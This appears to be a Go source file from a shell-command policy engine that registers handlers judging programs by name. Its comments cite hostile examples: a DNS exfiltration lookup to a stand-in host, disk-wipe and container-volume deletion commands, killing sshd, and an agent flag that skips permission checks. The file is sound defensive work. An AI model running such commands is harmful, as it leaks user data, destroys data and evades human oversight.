package policy

import "sync"

// handler judges one program's argv (args[0] is the program).
type handler func(x *cmdCtx, args []word)

// programs is what the policy knows of programs by name: each one's
// judgment, and the code runners, which take program text as an argument
// (pasting file names into that text lets a file name run commands).
// It is filled on first use, not at start-up (lazy.go), and in a function
// rather than a variable's initializer because the handlers refer back to
// it. Read it only through handlerFor and isCodeRunner.
var (
	programsOnce sync.Once
	programs     struct {
		handlers    map[string]handler
		codeRunners map[string]bool
	}
)

func loadPrograms() {
	programsOnce.Do(func() {
		handlers, codeRunners := map[string]handler{}, map[string]bool{}
		// In file order, as the init funcs these were ran: a later
		// registration of a name replaces an earlier one.
		addBuildHandlers(handlers)
		addExecHandlers(handlers, codeRunners)
		addFSHandlers(handlers)
		addGitHandlers(handlers)
		addNetHandlers(handlers)
		addTextHandlers(handlers)
		addEcosystemHandlers(handlers)      // ecosystems.go: refines some of the above
		addBuildVerbHandlers(handlers)      // buildverbs.go: build tools by verb class
		addMoreBuildHandlers(handlers)      // buildverbs_more.go: sbt, just, nix
		addTestRunnerHandlers(handlers)     // testrunners.go: bats, cucumber, behave
		addDevToolHandlers(handlers)        // devtools.go: generators, formatters, linters
		addPrivToolHandlers(handlers)       // privtools.go: setcap, mount
		addEverydayHandlers(handlers)       // everyday.go: lipo, codesign, php -m, loopback wget and nc
		addOwnershipHandlers(handlers)      // ownership.go: chown outside the workspace
		addEditorHandlers(handlers)         // editors.go: vim -c, ex, emacs --eval
		addDiskHandlers(handlers)           // diskwipe.go: mke2fs, sgdisk -Z, blkdiscard
		addContainerWipes(handlers)         // containerwipe.go: docker volume rm, compose down -v
		addRunnerInnerHandlers(handlers)    // runner_inner.go: mix run -e, elixir -e
		addRunnerWrapHandlers(handlers)     // runnerwraps.go: rimraf
		addInlineRunnerHandlers(handlers)   // inlinerunners.go: deno eval, bun -e, apply_patch
		addLocalDBHandlers(handlers)        // localdb.go: psql, mysql, createdb, dbmate against the sandbox's loopback
		addContainerBuildHandlers(handlers) // containerbuild.go: docker build and inspect in the sandbox; build --push
		addBuildSubToolHandlers(handlers)   // mvnexec.go: mvn exec:java, help:effective-pom
		addDotnetToolHandlers(handlers)     // dotnettools.go: dotnet csharpier, dotnet tool run reportgenerator
		addKillHandlers(handlers)           // killtargets.go: pkill -u $USER, killall sshd
		addDNSHandlers(handlers)            // dnsexfil.go: dig $(whoami).evil.example
		addTextToolHandlers(handlers)       // texttools.go: iconv, bc, history
		addGotestsumHandlers(handlers)      // gotestsum.go: go test behind a formatter
		addAgentCLIHandlers(handlers)       // agentcli.go: claude --dangerously-skip-permissions
		addTSRunnerHandlers(handlers)       // tsrunners.go: tsx scripts/seed.ts, judged as node
		addCloudCLIHandlers(handlers)       // cloudresets.go: supabase db reset --linked, as heroku's
		addCmdRunOptHandlers(handlers)      // cmdrunopts.go: difftool -x, ssh Match exec, m4 esyscmd
		addLocatorHandlers(handlers)        // locators.go: xcrun --find, pyenv which, flask routes
		addNotebookToolHandlers(handlers)   // notebooktools.go: jupyter execute, papermill, jupytext, nbstripout
		addTeXHandlers(handlers)            // textools.go: pdflatex, latexmk, bibtex, chktex
		programs.handlers, programs.codeRunners = handlers, codeRunners
	})
}

// handlerFor returns the judgment of the program named prog, if the policy
// knows it by name.
func handlerFor(prog string) (handler, bool) {
	loadPrograms()
	h, ok := programs.handlers[prog]
	return h, ok
}

// isCodeRunner reports whether prog takes program text as an argument.
func isCodeRunner(prog string) bool {
	loadPrograms()
	return programs.codeRunners[prog]
}
